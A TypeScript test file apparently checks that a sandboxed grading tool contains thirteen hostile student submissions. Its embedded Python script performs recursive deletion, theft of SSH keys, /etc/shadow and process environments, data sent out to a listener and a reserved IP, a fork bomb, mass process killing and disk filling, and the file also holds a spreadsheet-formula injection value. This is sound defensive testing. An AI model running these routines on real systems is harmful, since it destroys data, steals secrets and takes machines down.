// Submissions that attack the teacher, the machine, each other and the judge: sealed by bubblewrap, none of them reaches anything.

import { afterAll, describe, expect, test } from "bun:test";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { canSeal } from "../../../conformance/index.ts";
import type { ClassFile } from "./class-file.ts";

/** A class of a dozen, of which some use up their time, on a machine that is busy. */
const LIMIT = 240_000;
const ROOT = resolve(import.meta.dir, "../../..");
const PYTHON = "/usr/bin/python3"; // one that every user may run
const NOBODY = "65534";
const isRoot = process.getuid?.() === 0;

const found: string[] = [];
afterAll(() => {
  for (const path of found) rmSync(path, { recursive: true, force: true });
});

/** Each attack is tried when the server starts. Then it answers `error` to everything, and prints what it found. */
const ATTACKER = `
import os, signal, socket, sys, time, traceback
port, attack, home, out, secret_port, marker = int(sys.argv[1]), *sys.argv[2:7]
def write(path, text="owned"):
    try:
        with open(path, "w") as f: f.write(text)
    except OSError: pass
def delete():
    os.system("rm -rf '%s/precious' '%s'; rm -rf /var/tmp/%s" % (home, out, marker))
def steal():
    for path in (home + "/.ssh/id_rsa", home + "/precious/exam", "/etc/shadow"):
        try: print("STOLEN", open(path).read(), flush=True)
        except OSError: pass
def send():
    for address in (("127.0.0.1", int(secret_port)), ("192.0.2.1", 80)):
        try: socket.create_connection(address, 1).sendall(b"stolen")
        except OSError: pass
    try:
        abstract = socket.socket(socket.AF_UNIX); abstract.connect("\\0" + marker); abstract.sendall(b"stolen")
    except OSError: pass
def neighbour():
    for name in ("../bob/server.py", os.path.dirname(os.path.abspath(__file__)) + "/../bob/server.py"): write(name, "import sys; sys.exit(1)")
def fill():
    for place in ("/var/tmp", "/tmp", "/dev/shm", ".", "/run", home):
        try:
            with open(place + "/" + marker, "wb") as f:
                for _ in range(64): f.write(bytes(1 << 20))
        except OSError: pass
def kill():
    for target in [-1] + [p for p in range(2, 70000) if p != os.getpid()] if os.path.exists("/proc/1/comm") else []:
        try: os.kill(target, signal.SIGKILL)
        except OSError: pass
def bomb():
    while True:
        try: os.fork()
        except OSError: time.sleep(0.01)
def memory():
    held = []
    while True: held.append(bytearray(64 << 20))
def daemon():
    for _ in range(2):
        if os.fork(): return
        os.setsid()
    os.environ.clear(); os.chdir("/")
    os.execve("/usr/bin/sleep", [marker, "600"], {})
def environ():
    for name in os.listdir("/proc"):
        try: print("ENVIRON", open("/proc/%s/environ" % name).read(), flush=True)
        except OSError: pass
def reports():
    for name in ("marks.csv", "records/bob.json", "class.json"): write(out + "/" + name)
def links():
    write(os.path.dirname(os.path.abspath(__file__)) + "/way-out/exam")
def flood():
    while True: os.write(1, b"x" * 65536)
try: globals()[attack]()
except Exception: traceback.print_exc()
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); server.bind(("", port)); server.listen(9)
while True:
    client, _ = server.accept(); client.recv(100); client.sendall(b"error\\n"); client.close()
`;

const ATTACKS = [
  ...["delete", "steal", "send", "neighbour", "fill", "kill", "bomb", "memory"],
  ...["daemon", "environ", "reports", "links", "flood"],
];

/** The other user takes another minute. */
const isLongForm = Bun.env["FT_SELFTEST"] === "full";

const HONEST = `
import os, socket, sys
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); server.bind(("", int(sys.argv[1]))); server.listen(9)
while True:
    client, address = server.accept(); words = client.recv(1000).decode().split()
    q = socket.create_connection((address[0], int(words[-1])))
    q.sendall("".join(name + "\\n" for name in os.listdir(".")).encode()); q.close(); client.close()
`;

/** A class in a directory of its own, the home of a teacher with something to lose, and somebody who listens for what is sent. */
function makeClass(owner: string | undefined) {
  const here = mkdtempSync(join(tmpdir(), "ftconform-sealed-"));
  found.push(here);
  const [home, out, marker] = [join(here, "home"), join(here, "out"), `ft-${crypto.randomUUID()}`];
  for (const path of ["home/precious", "home/.ssh", "class/bob"])
    mkdirSync(join(here, path), { recursive: true });
  writeFileSync(join(home, "precious/exam"), "the answers");
  writeFileSync(join(home, ".ssh/id_rsa"), "PRIVATE");
  writeFileSync(join(here, "class/bob/server.py"), HONEST);
  const calls: string[] = [];
  const socket = { data: (_: unknown, bytes: Buffer) => void calls.push(bytes.toString()) };
  const listener = Bun.listen({ hostname: "127.0.0.1", port: 0, socket });
  const hidden = Bun.listen({ unix: `\0${marker}`, socket });
  const rows = ATTACKS.map((attack) => {
    const folder = join(here, "class", attack);
    mkdirSync(folder);
    writeFileSync(join(folder, "server.py"), ATTACKER);
    symlinkSync(join(home, "precious"), join(folder, "way-out"));
    const words = [attack, home, out, listener.port, marker].join(" ");
    return `${attack},${PYTHON} ${attack}/server.py {port} ${words}`;
  });
  rows.push(`"bob, ""=1+1""\n\u202e",${PYTHON} bob/server.py {port}`);
  writeFileSync(join(here, "class/class.csv"), ["name,server", ...rows].join("\n"));
  if (owner !== undefined) Bun.spawnSync(["chown", "-R", `${owner}:${owner}`, here]);
  chmodSync(here, 0o755);
  const dispose = () => (listener.stop(true), hidden.stop(true));
  return { here, home, out, marker, calls, [Symbol.dispose]: dispose };
}

/** The command lines of all processes. */
const listCommands = (): string[] =>
  readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "latin1");
      } catch {
        return "";
      }
    });

async function attackAs(owner: string | undefined): Promise<void> {
  using at = makeClass(owner);
  const user =
    owner === undefined ? [] : ["setpriv", "--reuid", owner, "--regid", owner, "--clear-groups"];
  const options = ["--grade", join(at.here, "class/class.csv"), "--out", at.out, "--only", "S7.8"];
  const limits = ["--patience", "1", "--time-limit", "60", "--jobs", "7"];
  const command = [process.execPath, `${ROOT}/cmd/ftconform.ts`, ...options, ...limits];
  const env = { PATH: "/usr/bin:/bin", HOME: at.home, TMPDIR: at.here, FT_TOP_SECRET: at.marker };
  const program = Bun.spawn([...user, ...command], {
    cwd: at.here,
    env,
    stdio: ["ignore", "pipe", "pipe"],
  });
  const [status, , errors] = await Promise.all([
    program.exited,
    program.stdout.text(),
    program.stderr.text(),
  ]);
  expect([status, errors]).toEqual([2, ""]);
  const { submissions } = JSON.parse(readFileSync(join(at.out, "class.json"), "utf8")) as ClassFile;
  const verdicts = Object.fromEntries(submissions.map(({ name, verdict }) => [name, verdict]));
  // Nobody earns anything by an attack, and nobody else loses anything by it.
  for (const attack of ATTACKS)
    expect([attack, verdicts[attack]]).not.toEqual([attack, "conformant"]);
  expect(Object.values(verdicts).filter((each) => each === "conformant")).toHaveLength(1);
  expect(Object.keys(verdicts)).toHaveLength(ATTACKS.length + 1);
  expect(readFileSync(join(at.home, "precious/exam"), "utf8")).toBe("the answers");
  expect(readFileSync(join(at.here, "class/bob/server.py"), "utf8")).toBe(HONEST);
  expect(at.calls).toEqual([]);
  const reports = readdirSync(at.out).filter((name) => name.endsWith(".json"));
  const told = reports.map((name) => readFileSync(join(at.out, name), "utf8")).join("");
  expect(told).not.toMatch(/PRIVATE|the answers|FT_TOP_SECRET/);
  for (const place of ["/var/tmp", "/tmp", "/dev/shm", at.home])
    expect(existsSync(join(place, at.marker))).toBe(false);
  expect(listCommands().filter((line) => line.startsWith(at.marker))).toEqual([]);
  expect(
    listCommands().filter((line) => line.includes("server.py") && line.includes(at.marker)),
  ).toEqual([]);
}

/** Whether that user can run the suite at all: the checkout and Bun may be in somebody's home. */
function canRun(owner: string): boolean {
  const user = ["setpriv", "--reuid", owner, "--regid", owner, "--clear-groups"];
  const command = [process.execPath, `${ROOT}/cmd/ftconform.ts`, "--version"];
  return Bun.spawnSync([...user, ...command], { cwd: "/", env: { HOME: "/nonexistent" } }).success;
}

const works = canSeal() && existsSync(PYTHON);

describe("thirteen attacks on a class (skipped without bubblewrap or Debian's Python)", () => {
  test.skipIf(!works)("reach nothing", () => attackAs(undefined), LIMIT);

  test.skipIf(!works || !isRoot || !isLongForm || !canRun(NOBODY))(
    "reach nothing if an ordinary user judges (long form; skipped if that user cannot run this checkout)",
    () => attackAs(NOBODY),
    LIMIT,
  );
});
